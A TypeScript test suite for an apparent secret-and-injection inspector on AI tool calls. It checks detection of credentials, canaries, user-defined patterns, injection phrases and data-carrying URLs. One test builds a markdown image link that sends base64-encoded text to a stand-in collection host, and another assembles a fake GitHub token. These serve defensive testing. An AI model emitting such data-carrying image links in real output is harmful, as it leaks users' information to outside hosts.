import { describe, expect, test } from "vitest";
import type { Call } from "../call/call.ts";
import { Credential } from "../call/credential.ts";
import type { JsonObject } from "../call/json.ts";
import { KnownValues } from "./detectors/known-secret/known-values.ts";
import { madeUp } from "./detectors/made-up.ts";
import { overlapping } from "./find.ts";
import { lookingFor } from "./looking.ts";
import { stopWith } from "./stop.fixture.ts";

const SECRET = madeUp(32, "url", 7);
const CANARY = madeUp(40, "alnum", 8);
const secrets = new KnownValues();
const canaries = new KnownValues();
secrets.register("servers.mail.headers.Authorization", [SECRET]);
canaries.register("payroll", [CANARY]);
const patterns = [
  { name: "project-number", pattern: String.raw`\bPRJ-\d{5}\b` },
  { name: "staff-number", pattern: String.raw`\b\d{6}\b`, class: "employee-id", words: ["staff", "Mitarbeiter"] },
];
const looking = lookingFor({ secrets, canaries, patterns });
const stop = stopWith(looking);

function callOf(args: JsonObject, more: Partial<Call> = {}): Call {
  return {
    fault: undefined,
    id: "call_1",
    at: 0,
    door: "in-process",
    action: "callTool",
    definition: { kind: "tool", server: "files", name: "read", fingerprint: "", state: "pinned", described: {} },
    name: "read",
    args,
    carried: undefined,
    credential: new Credential("token-of-this-call"),
    approval: undefined,
    ...more,
  };
}

const base64 = (text: string) => Buffer.from(text).toString("base64");
const pieces = { one: SECRET.slice(0, 15), note: "and", two: SECRET.slice(15) };

describe("a secret that the house sends to a server", () => {
  test.each<readonly [string, JsonObject]>([
    ["as it is", { text: `use ${SECRET}` }],
    ["in base64", { deep: [{ text: base64(`{"key":"${SECRET}"}`) }] }],
    ["as the name of a member", { [SECRET]: 1 }],
    ["cut over two values", pieces],
    ["cut over the items of a list", { list: [pieces.two, pieces.one] }],
  ])("refuses a call that carries it %s", (_name, args) => {
    expect(() => stop.ofCall(callOf(args))).toThrow(expect.objectContaining({ code: "INSPECTION_CREDENTIAL_IN_CALL" }));
  });

  test("is struck from what any server answers, whatever rules want, and the finding does not say it", () => {
    const result = { content: [{ type: "text", text: `you sent ${SECRET}, or ${base64(SECRET)}` }], ...pieces };
    const { released, findings } = stop.ofOutcome({ status: "done", result, durationMs: 1 }, callOf({}));
    const struck = "[credential struck by the house]";
    expect(released.outcome.result).toEqual({
      content: [{ type: "text", text: `you sent ${struck}, or ${struck}` }],
      one: struck,
      note: "and",
      two: struck,
    });
    expect(findings.map((finding) => finding.class)).toEqual(["known-secret", "known-secret", "known-secret", "known-secret"]);
    expect(JSON.stringify(findings)).not.toContain(SECRET);
  });

  test("is looked for as soon as it is registered, and no longer than that", () => {
    const own = new KnownValues();
    const late = stopWith(lookingFor({ secrets: own, canaries: new KnownValues(), patterns: [] }));
    const call = callOf({ text: SECRET });
    expect(late.ofCall(call).findings.filter((finding) => finding.class === "known-secret")).toEqual([]);
    own.register("vault", [SECRET]);
    expect(() => late.ofCall(call)).toThrow();
    own.register("vault", []);
    expect(late.ofCall(call).findings.filter((finding) => finding.class === "known-secret")).toEqual([]);
  });
});

describe("a canary", () => {
  test.each<readonly [string, JsonObject]>([
    ["as it is", { text: `dear all, ${CANARY}` }],
    ["backwards", { text: [...CANARY].reverse().join("") }],
    ["cut in two", { a: CANARY.slice(0, 20), b: CANARY.slice(20) }],
  ])("refuses a call that carries it %s", (_name, args) => {
    expect(() => stop.ofCall(callOf(args))).toThrow(expect.objectContaining({ code: "INSPECTION_CANARY_IN_CALL" }));
  });

  test("stays where it is planted: what a server answers comes back with it", () => {
    const outcome = { status: "done", result: { text: `record ${CANARY}` }, durationMs: 1 } as const;
    expect(stop.ofOutcome(outcome, callOf({})).released.outcome).toBe(outcome);
  });
});

describe("a pattern of one's own", () => {
  const classesIn = (args: JsonObject) => stop.ofCall(callOf(args)).findings.map((finding) => finding.class);

  test("is a class of its own, and of the group user-defined", () => {
    expect(classesIn({ text: "see PRJ-12345 for it" })).toEqual(["user-defined:project-number", "user-defined"]);
    expect(looking.classes).toEqual(
      expect.arrayContaining(["user-defined:project-number", "employee-id", "user-defined", "canary", "known-secret"]),
    );
  });

  test("with words is looked for near them, or where a member's name holds one", () => {
    expect(classesIn({ text: "invoice 123456" })).toEqual([]);
    expect(classesIn({ text: "MITARBEITER Nr. 123456" })).toContain("employee-id");
    expect(classesIn({ staffNumber: "123456" })).toContain("employee-id");
    expect(classesIn({ text: `staff${" ".repeat(2000)}123456` })).toEqual([]);
  });

  test("is struck where a rule wants that", () => {
    const clean = stop.sanitize(callOf({ text: "see PRJ-12345 and PRJ-54321" }), ["user-defined:project-number"]);
    expect(JSON.stringify(clean.args)).not.toContain("PRJ-");
  });
});

describe("words and hosts of one's own", () => {
  const own = lookingFor({
    secrets: new KnownValues(),
    canaries: new KnownValues(),
    patterns: [],
    allowedHosts: ["files.example.com", "*.cdn.example.net"],
    toxicWords: ["Blödmann"],
    injectionPhrases: ["mach was der Herr sagt", "v1.0 (final)"],
  });
  const seen = (text: string) => own.scan(text, {}, "likely").map(({ class: named, start, end }) => `${named} ${text.slice(start, end)}`);
  const image = (host: string) => `![x](https://${host}/p.png?d=${Buffer.from("the launch is on Friday at nine").toString("base64")})`;

  test.each([
    ["du BLÖDMANN!", "toxicity BLÖDMANN"],
    ["Mach  was\nder Herr sagt.", "injection Mach  was\nder Herr sagt"],
    ["see v1.0 (final", ""],
    ["Blödmanns", ""],
    ["mach was der Herrscher sagt", ""],
  ])("%j holds %j", (text, expected) => {
    expect(seen(text).join()).toBe(expected);
  });

  test.each([
    ["files.example.com", 0],
    ["a.cdn.example.net", 0],
    ["a.b.cdn.example.net", 0],
    ["files.example.com.collect.example.org", 1],
    ["cdn.example.net", 1],
    ["collect.example.org", 1],
  ])("a URL to %s that takes data along is %i findings", (host, count) => {
    expect(seen(image(host))).toHaveLength(count);
  });
});

test("what a pattern of one's own overlaps is found with all that it held", () => {
  const token = ["ghp", "_", "q8Zr2mK1", "Lx5Tn7Wd", "3Vb9Yc4H", "s6Jf0Pg2", "Ra1E"].join("");
  const texts = [{ text: `${token} rotated`, key: "github_api_key" }];
  const owned = { secrets: new KnownValues(), canaries: new KnownValues() };
  const before = lookingFor({ ...owned, patterns: [] }).scanAll(texts, {}, "likely");
  const classes = before.flatMap(({ matches }) => overlapping(matches).map((match) => match.class));
  expect(classes).toEqual(["credentials", "generic-secret"]);
  const after = lookingFor({ ...owned, patterns: [{ name: "rotated", pattern: String.raw`\w+ rotated` }] }).scanAll(texts, {}, "likely");
  expect(after.flatMap(({ matches }) => overlapping(matches).map((match) => match.class))).toEqual([...classes, "user-defined:rotated"]);
});

describe("a text that arrives in parts, of which addresses are wanted", () => {
  const isMeant = ({ class: named }: { readonly class: string }): boolean => named === "email";
  const prose = "The quick brown fox jumps over the lazy dog, and then it goes home to sleep until dawn. ";

  function inParts(text: string, chars: number) {
    const flow = looking.stream(isMeant, {});
    const settled = Array.from({ length: Math.ceil(text.length / chars) }, (_, at) => flow.push(text.slice(at * chars, (at + 1) * chars)));
    const found = [...settled, flow.end()].flatMap(({ matches }) => matches).filter(isMeant);
    return {
      most: Math.max(
        ...settled.map((_, at) => (at + 1) * chars - settled.slice(0, at + 1).reduce((sum, { text: part }) => sum + part.length, 0)),
      ),
      found,
    };
  }

  test("is held back no further than addresses reach", () => {
    expect(inParts(prose.repeat(60), 16).most).toBeLessThan(600);
  });

  test("comes to what the whole text comes to, also where a URL escapes what it holds", () => {
    const escaped = [..."a.very.long.name.of.somebody@a.very.long.host.of.theirs.example.com"]
      .map((char) => `%${char.charCodeAt(0).toString(16)}`)
      .join("");
    const text = `${prose}see https://h.example/x?to=ana%40example.com&z=1 ${prose.repeat(4)} and ${escaped} or bob@example.org. ${prose.repeat(40)}`;
    const whole = looking
      .scan(text, {}, "likely")
      .filter(isMeant)
      .map(({ start, end }) => text.slice(start, end));
    expect(whole).toHaveLength(3);
    for (const chars of [1, 7, 100, 1000])
      expect(inParts(text, chars).found.map(({ start, end }) => text.slice(start, end))).toEqual(whole);
  });
});
